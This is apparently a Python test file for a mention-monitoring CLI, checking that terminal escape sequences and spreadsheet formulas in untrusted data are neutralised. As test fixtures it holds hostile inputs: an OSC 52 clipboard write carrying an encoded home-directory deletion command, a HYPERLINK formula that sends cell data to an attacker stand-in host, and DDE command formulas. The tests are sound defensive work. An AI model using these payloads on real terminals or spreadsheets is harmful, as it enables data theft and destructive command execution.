"""What strangers write (public posts, servers' replies) is shown to the operator, never obeyed:
no escape sequence reaches the terminal from a table, a status line or a log record."""

from __future__ import annotations

import json
import logging


import wire_hackernews as wh
from factories import record, write_jsonl
from fakeserver import Reply
from monitor import logs

# Sets the terminal's title, clears the screen, hides what follows, writes the clipboard (OSC 52).
ESCAPES = "\x1b]0;PWNED\x07\x1b[2J\x1b[8m\x1b]52;c;cm0gLXJmIH4=\x07\x9b31m"


def test_escape_sequences_in_a_mention_are_shown_in_tables_and_kept_in_json(cli, write_config, tmp_path):
    path = write_config()
    text = f"acme is awful {ESCAPES}really awful"
    cli("--config", path, "import", write_jsonl(tmp_path / "m.jsonl", [record("1", text, author=f"ev{ESCAPES}il")]))
    for command in (["negatives"], ["mentions"], ["mentions", "--label", "negative"]):
        out = cli("--config", path, *command).stdout
        assert "acme is awful ␛]0;PWNED␇␛[2J" in out, out
        assert "ev␛]0;PWNED" in out
        assert "\x1b" not in out and "\x07" not in out and "\x9b" not in out
    (stored,) = json.loads(cli("--config", path, "mentions", "--format", "json").stdout)
    assert (stored["text"], stored["author"]) == (text, f"ev{ESCAPES}il")  # the data as it is


def test_a_servers_error_with_escape_sequences_is_shown_escaped(cli, write_config, fake_server):
    fake_server.route("GET", wh.SEARCH, Reply(400, json={"message": f"bad {ESCAPES}query"}))
    path = write_config(wh.source_toml(fake_server.url))
    polled = cli("--config", path, "poll")
    assert polled.exit_code == 1
    status = cli("--config", path, "status")
    for out in (polled.output, status.output):
        assert "(400 bad ␛]0;PWNED␇␛[2J␛[8m␛]52;c;cm0gLXJmIH4=␇\ufffd31mquery)" in out, out
        assert "\x1b" not in out and "\x07" not in out and "\x9b" not in out
    (state,) = json.loads(cli("--config", path, "status", "--format", "json").stdout)["sources"]
    assert ESCAPES in state["last_error"]  # stored as the server sent it


def test_log_records_and_tracebacks_show_control_characters_escaped(restore_logging, capsys):
    logs.configure("INFO")
    log = logging.getLogger("monitor.test")
    log.warning("poll failed: %s", f"bad {ESCAPES}query\tend")
    try:
        raise ValueError(f"server said {ESCAPES}")
    except ValueError:
        log.exception("unexpected")
    err = capsys.readouterr().err
    assert "poll failed: bad ␛]0;PWNED␇␛[2J" in err and "query\tend" in err
    assert "ValueError: server said ␛]0;PWNED" in err
    assert "\x1b" not in err and "\x07" not in err and "\x9b" not in err


def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text(cli, write_config, tmp_path):
    import csv
    import io

    path = write_config()
    formulas = {
        "1": ('=HYPERLINK("https://evil.example/?"&A1,"acme refund here") acme awful', "=cmd|' /C calc'!A0"),
        "2": ("@SUM(1+1)*cmd|' /C calc'!A0 acme awful", "+alice"),
        "3": ("-2+3 acme is awful", "@bob"),
        "4": ("\t=1+1 acme is awful", "-carol"),
    }
    cli("--config", path, "import", write_jsonl(tmp_path / "m.jsonl", [
        record(id, text, author=author) for id, (text, author) in formulas.items()]))
    for command in ("mentions", "negatives"):
        out = cli("--config", path, command, "--format", "csv").stdout
        rows = {row["id"]: row for row in csv.DictReader(io.StringIO(out))}
        assert set(rows) == set(formulas)
        for id, (text, author) in formulas.items():
            assert (rows[id]["text"], rows[id]["author"]) == ("'" + text, "'" + author)
            assert float(rows[id]["compound"]) < 0 and rows[id]["compound"].startswith("-")  # numbers as they are
    (stored,) = [m for m in json.loads(cli("--config", path, "mentions", "--format", "json").stdout) if m["id"] == "1"]
    assert stored["text"] == formulas["1"][0]  # JSON and the database keep the text as it is
